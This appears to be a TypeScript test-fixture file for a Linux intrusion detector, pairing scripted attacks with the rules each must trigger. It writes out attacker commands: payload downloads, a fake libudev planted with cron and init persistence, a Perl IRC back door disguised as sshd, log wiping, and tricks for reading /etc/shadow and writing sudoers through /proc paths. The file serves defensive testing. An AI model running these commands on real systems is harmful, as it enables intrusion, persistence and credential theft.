/**
 * Stories of several rules: the two cases of the article that this product began with, and ways in which an intruder
 * tries to get around a rule that a path or a name leads to. Every rule of a case must speak.
 */
import type { User } from './runner.ts';

export interface Case {
  readonly name: string;
  readonly user: User;
  readonly lines: string;
  readonly rules: readonly string[];
}

/** A bot for floods, as root: copies under a library's name, a cron script, init scripts, names of other programs. */
const floodBot: Case = {
  name: 'the bot with the false libudev',
  user: 'root',
  lines: `wget -q -T 1 -t 1 -O /tmp/install.sh http://192.0.2.77/install.sh
cat /bin/sleep | cat > /lib/libudev.so; chmod 755 /lib/libudev.so
cp /lib/libudev.so /usr/bin/zbbpxdqalf
printf '#!/bin/sh\\ncp /lib/libudev.so /lib/libudev.so.6\\n/lib/libudev.so.6 0\\n' > /etc/cron.hourly/gcc4.sh
chmod +x /etc/cron.hourly/gcc4.sh
sed -i '/gcc4.sh/d' /etc/crontab; echo '*/3 * * * * root /etc/cron.hourly/gcc4.sh' >> /etc/crontab
printf '#!/bin/sh\\n/usr/bin/zbbpxdqalf\\n' > /etc/init.d/zbbpxdqalf; chmod +x /etc/init.d/zbbpxdqalf
ln -s /etc/init.d/zbbpxdqalf /etc/rc3.d/S90zbbpxdqalf; ln -s /etc/init.d/zbbpxdqalf /etc/rc5.d/S90zbbpxdqalf
update-rc.d zbbpxdqalf defaults
bash -c 'exec -a "cat resolv.conf" /usr/bin/zbbpxdqalf 0'; bash -c 'exec -a sshd /usr/bin/zbbpxdqalf 0'
to 192.0.2.78 1520; rm -f /tmp/install.sh; : > /var/log/wtmp; rm -f ~/.bash_history`,
  rules: [
    'File transfer tool run',
    'Outbound connection',
    'Program file written',
    'Dropped file made executable',
    'System library planted',
    'System program replaced',
    'Scheduled task written',
    'Boot script or service changed',
    'Service switched on',
    'Program not of the installed system run',
    'Process in disguise',
    'Name of a service taken',
    'Log file tampered with',
  ],
};

/** A chat bot, as a user without rights: everything happens in home and temporary directories. */
const chatBot: Case = {
  name: 'the chat bot of the ordinary user',
  user: 'user',
  lines: `uname -a; cat /proc/cpuinfo
wget -q -T 1 -t 1 -O bot.tgz http://192.0.2.77/bot.tgz
mkdir /tmp/.xkit; cp /usr/bin/perl /tmp/.xkit/httpd; chmod 755 /tmp/.xkit/httpd
echo '* * * * * /tmp/.xkit/httpd' | crontab -; crontab -r
to 192.0.2.79 6667 /tmp/.xkit/httpd
/tmp/.xkit/httpd -MSocket -e '$0="sshd";$a=sockaddr_in(16671,inet_aton("127.0.0.1"));socket(L,2,1,6);bind(L,$a);listen(L,1);socket(C,2,1,6);connect(C,$a);syswrite(C,"NICK x86-1234");syswrite(C,"JOIN #bots key")'
rm -rf /tmp/.xkit; history -c`,
  rules: [
    'Discovery command',
    'Discovery by reading files',
    'File transfer tool run',
    'Hidden directory made',
    'Executable copied to an odd place',
    'Scheduled task written',
    'Hidden program run',
    'Program run from an odd place',
    'Dropped program connects out',
    'Connection to a port of back doors',
    'Process renames itself',
    'Back door listens',
    'Chat protocol spoken',
  ],
};

const around = (name: string, user: User, rule: string, lines: string): Case => ({ name, user, lines, rules: [rule] });

const evasions: readonly Case[] = [
  around('hashes by dots and slashes', 'user', 'Password hashes read', 'cat /tmp/..//etc/./shadow'),
  around('hashes by a root in proc', 'user', 'Password hashes read', 'cat /proc/self/root/etc/shadow'),
  around(
    'hashes by the working directory in proc',
    'user',
    'Password hashes read',
    'cd /etc; cat /proc/self/cwd/shadow',
  ),
  around(
    'hashes by a thread in proc',
    'root',
    'Password hashes read',
    'cat /proc/self/task/$BASHPID/root/etc/shadow /proc/1/root/etc/shadow',
  ),
  around('hashes by a linked directory', 'root', 'Password hashes read', 'ln -s /etc settings; cat settings/shadow'),
  around('hashes by a linked file', 'root', 'Link to a guarded place', 'ln -s /etc/shadow notes.txt; cat notes.txt'),
  around(
    'hashes by a second name',
    'root',
    'Link to a guarded place',
    'ln /etc/shadow /etc/notes.txt; cat /etc/notes.txt',
  ),
  around('cron by a root in proc', 'user', 'Scheduled task written', 'echo x > /proc/self/root/etc/cron.d/job'),
  around(
    'cron by a root in proc twice',
    'root',
    'Scheduled task written',
    'echo > /proc/self/root/proc/1/root/etc/cron.d/job',
  ),
  around(
    'cron by the working directory in proc',
    'root',
    'Scheduled task written',
    'cd /etc/cron.d; echo > /proc/self/cwd/job2',
  ),
  around('cron by the parent directory', 'root', 'Scheduled task written', 'cd /etc/cron.daily; echo > ../cron.d/job3'),
  around('init by a root in proc', 'root', 'Boot script or service changed', 'echo > /proc/1/root/etc/init.d/job'),
  around('profile by a root in proc', 'user', 'Log-in set-up changed', 'echo > /proc/self/root/etc/profile.d/job.sh'),
  around(
    'keys by a root in proc',
    'user',
    'Authorised keys changed',
    'mkdir ~/.ssh; echo x >> /proc/self/root/home/user/.ssh/authorized_keys',
  ),
  around('accounts by a root in proc', 'user', 'Account files changed', 'echo x >> /proc/self/root/etc/passwd'),
  around('sudo rights by a root in proc', 'user', 'Sudo rights changed', 'echo x >> /proc/self/root/etc/sudoers'),
  around('logs by a root in proc', 'root', 'Log file tampered with', ': > /proc/self/root/var/log/btmp'),
  around(
    'preload list by a root in proc',
    'user',
    'Preload list changed',
    'echo x > /proc/self/root/etc/ld.so.preload',
  ),
  around(
    'a program by its number',
    'user',
    'Program run from an odd place',
    'cp /bin/true t; exec 7< t; /proc/self/fd/7',
  ),
  around(
    'a process that says it is sshd',
    'user',
    'Discovery command',
    `perl -e '$0 = "sshd"; system("/usr/bin/uname", "-a"); exit'`,
  ),
  around(
    'a program that leaves the session',
    'user',
    'Discovery command',
    `perl -e 'exit if fork; exit if fork; select(undef,undef,undef,.2); exec "uname", "-r"'; sleep 0.5`,
  ),
];

/** Calls that have no event type of their own and are known by their code alone; each is refused, the attempt is told. */
const calls: readonly Case[] = [
  around('a module by its bytes', 'root', 'Kernel code loaded', 'call 175 105 0 0 x'),
  around('a module by its tool', 'root', 'Kernel code loaded', 'cp /bin/true insmod; ./insmod rootkit.ko'),
  around('a kernel by kexec_load', 'root', 'Kernel code loaded', 'call 246 104 0 0 0 0'),
  around('a root by pivot_root', 'root', 'Root directory changed', 'call 155 41 / /'),
  around('a root by chroot', 'root', 'Root directory changed', 'chroot / true'),
  around('a mount by fsopen', 'root', 'Mount attempted', 'call 430 430 tmpfs 0'),
  around('a mount by move_mount', 'user', 'Mount attempted', "call 429 429 -100 '' -100 /mnt 0"),
  around('a mount by open_tree', 'user', 'Mount attempted', 'call 428 428 -100 / 1'),
  around('counters by perf_event_open', 'user', 'Kernel interface of exploits used', 'call 298 241 0 0 -1 -1 0'),
  around('a key by add_key', 'user', 'Kernel interface of exploits used', 'call 248 217 user x y 1 -2'),
  around('page faults by userfaultfd', 'user', 'Kernel interface of exploits used', 'call 323 282 0'),
];

export const cases: readonly Case[] = [floodBot, chatBot, ...evasions, ...calls];
